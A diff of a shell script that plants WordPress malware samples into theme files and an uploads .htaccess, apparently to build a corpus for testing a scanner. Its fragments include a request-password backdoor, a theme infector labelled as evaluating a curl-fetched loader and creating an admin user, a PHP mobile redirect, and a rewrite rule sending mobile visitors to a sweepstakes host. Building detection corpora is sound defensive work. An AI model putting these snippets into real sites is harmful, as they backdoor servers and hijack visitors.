@@ -57,8 +57,9 @@ if ( isset( $_REQUEST['tpass'] ) && md5( $_REQUEST['tpass'] ) == 'a9b7ba70783b61
 	die();
 }
 EOF
-inject $T23/functions.php high append "theme infector: curl loader eval'd, admin user created once" theme-infector <<'EOF'
-
+# (this block theme has no functions.php: the infector writes one)
+inject $T23/functions.php high new "theme infector: curl loader eval'd, admin user created once" theme-infector <<'EOF'
+<?php
 add_action( 'init', function () {
 	if ( get_option( 'wp_theme_mods_cache_v2' ) ) {
 		return;
@@ -289,7 +290,7 @@ add_action( 'wp_footer', function () {
 EOF
 
 ## --- malicious redirects (PHP, .htaccess)
-inject $T21/header.php high prepend "mobile redirect: first-time mobile visitors sent offsite, cookie set" redirect-php <<'EOF'
+inject $T21/header.php any prepend "mobile redirect: first-time mobile visitors sent offsite, cookie set" redirect-php <<'EOF'
 <?php
 if ( wp_is_mobile() && ! is_user_logged_in() && empty( $_COOKIE['_wp_mvisit'] ) ) {
 	setcookie( '_wp_mvisit', '1', time() + 86400, '/' );
@@ -328,7 +329,7 @@ RewriteRule . /index.php [L]
 </IfModule>
 # END WordPress
 EOF
-inject wp-content/uploads/.htaccess high new "htaccess: mobile user agents redirected offsite" redirect-htaccess <<'EOF'
+inject wp-content/uploads/.htaccess any new "htaccess: mobile user agents redirected offsite" redirect-htaccess <<'EOF'
 RewriteEngine on
 RewriteCond %{HTTP_USER_AGENT} (android|iphone|ipod|blackberry|opera\ mini|windows\ phone) [NC]
 RewriteRule ^ https://m-sweepstakes.example/lp/?s=%{HTTP_HOST} [L,R=301]
